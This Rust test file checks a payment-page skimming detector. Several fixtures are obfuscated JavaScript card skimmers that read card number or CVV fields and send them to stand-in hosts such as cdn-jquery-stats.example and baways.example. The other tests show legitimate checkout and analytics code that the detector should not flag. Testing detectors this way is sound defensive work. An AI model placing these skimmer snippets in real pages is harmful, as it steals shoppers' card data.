//! Skimming signs in script text (`shoptrust::payment::skimming::inspect`): what a skimmer
//! looks like, and honest code that must not be called one.

use shoptrust::payment::skimming::inspect;

const SHOP: &str = "surf.example";

#[test]
fn eval_of_base64_that_reads_the_card_and_beacons_it() {
    // `eval(atob(…))` over: read the card number field, send it to an unrelated host.
    let payload = "document.querySelector('#cc-number').addEventListener('blur',function(e){navigator.sendBeacon('https://cdn-jquery-stats.example/c',e.target.value)})";
    let encoded = base64_encode(payload);
    let signs = inspect(&format!("eval(atob('{encoded}'));"), SHOP);
    assert!(signs.obfuscation.iter().any(|o| o.contains("runs decoded text as code")), "{signs:?}");
    assert!(signs.card_reads.iter().any(|r| r.contains("cc-number")), "{signs:?}");
    assert!(signs.sends_to.iter().any(|h| h.contains("cdn-jquery-stats.example")), "{signs:?}");
    assert!(signs.strong());
}

#[test]
fn from_char_code_chain_hides_the_drop_host() {
    let host: String =
        "https://baways.example/gate".chars().map(|c| (c as u32).to_string()).collect::<Vec<_>>().join(",");
    let text = format!(
        "var u=String.fromCharCode({host});var c=document.getElementsByName('cardnumber')[0];\
         document.forms[0].onsubmit=function(){{new Image().src=u+'?'+c.value}};"
    );
    let signs = inspect(&text, SHOP);
    assert!(signs.obfuscation.iter().any(|o| o.contains("fromCharCode")), "{signs:?}");
    assert!(signs.sends_to.iter().any(|h| h.contains("baways.example")), "{signs:?}");
    assert!(signs.card_reads.iter().any(|r| r.contains("cardnumber")), "{signs:?}");
    assert!(signs.strong());
}

#[test]
fn hex_escaped_string_array_with_card_selectors() {
    let hex = |s: &str| s.bytes().map(|b| format!("\\x{b:02x}")).collect::<String>();
    let text = format!(
        "var _0x1a2b=['{}','{}','{}','{}'];var _0x3c4d=function(_0x5e6f){{return _0x1a2b[_0x5e6f]}};\
         var _0x7a8b=document.querySelector(_0x3c4d(0x0))[_0x3c4d(0x1)];navigator[_0x3c4d(0x2)](_0x3c4d(0x3),_0x7a8b);",
        hex("input[name=cvv]"),
        hex("value"),
        hex("sendBeacon"),
        hex("https://stats-collector.example/p")
    );
    let signs = inspect(&text, SHOP);
    assert!(signs.obfuscation.iter().any(|o| o.contains("_0x")), "{signs:?}");
    assert!(signs.obfuscation.iter().any(|o| o.contains("hex-escaped")), "{signs:?}");
    assert!(signs.card_reads.iter().any(|r| r.contains("cvv")), "{signs:?}");
    assert!(signs.sends_to.iter().any(|h| h.contains("stats-collector.example")), "{signs:?}");
    assert!(signs.strong());
}

#[test]
fn packed_code_alone_is_obfuscation_not_skimming() {
    let text = "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'console|log'.split('|'),0,{}))";
    let signs = inspect(text, SHOP);
    assert!(signs.obfuscation.iter().any(|o| o.contains("packed")), "{signs:?}");
    assert!(!signs.strong(), "{signs:?}");
    assert!(signs.any());
}

#[test]
fn card_validation_that_posts_to_the_shop_is_not_suspicious() {
    let text = r#"!function(){var n=document.getElementById("card-number");n.addEventListener("input",function(){var v=n.value.replace(/\D/g,"");
        fetch("/api/card/bin?b="+v.slice(0,6)).then(function(r){return r.json()});fetch("https://api.surf.example/v1/checkout",{method:"POST",body:v})})}();"#;
    let signs = inspect(text, SHOP);
    assert!(!signs.card_reads.is_empty(), "it does read the card: {signs:?}");
    assert!(signs.sends_to.is_empty(), "its own site is not unrelated: {signs:?}");
    assert!(!signs.any(), "{signs:?}");
}

#[test]
fn tag_manager_snippet_is_not_suspicious() {
    let text = r#"(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],
        j=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src='https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);
        })(window,document,'script','dataLayer','GTM-XXXX');"#;
    let signs = inspect(text, SHOP);
    assert!(!signs.any(), "{signs:?}");
}

#[test]
fn provider_setup_that_sends_the_card_to_the_provider_is_not_suspicious() {
    let text = r#"var c=document.querySelector('input[autocomplete="cc-number"]');c.addEventListener('change',function(){
        fetch('https://api.stripe.com/v1/tokens',{method:'POST',body:'card[number]='+c.value});
        new Image().src='https://www.paypal.com/xoplatform/logger/api/logger?c='+c.value.length;});"#;
    let signs = inspect(text, SHOP);
    assert!(signs.sends_to.is_empty(), "{signs:?}");
    assert!(!signs.any(), "{signs:?}");
}

#[test]
fn base64_images_and_json_are_not_hidden_code() {
    let text = r#"var logo="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
        var cfg=JSON.parse('{"currency":"EUR","locale":"de-DE"}');var key="c2VjcmV0";document.querySelector('.logo').src=logo;"#;
    let signs = inspect(text, SHOP);
    assert!(!signs.any(), "{signs:?}");
}

#[test]
fn hostile_input_is_bounded() {
    // Unclosed strings, a huge fromCharCode list, deep quotes: answers without panicking.
    let mut text = String::from("String.fromCharCode(");
    text.push_str(&"65,".repeat(50_000));
    text.push_str("65)'\"`\\x\\u{zz}\\u12");
    let signs = inspect(&text, SHOP);
    assert!(signs.obfuscation.iter().any(|o| o.contains("character codes")), "{signs:?}");
    let _ = inspect(&"'".repeat(200_000), SHOP);
    let _ = inspect(&"eval(atob('".repeat(10_000), SHOP);
}

fn base64_encode(text: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes = text.as_bytes();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n =
            (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}
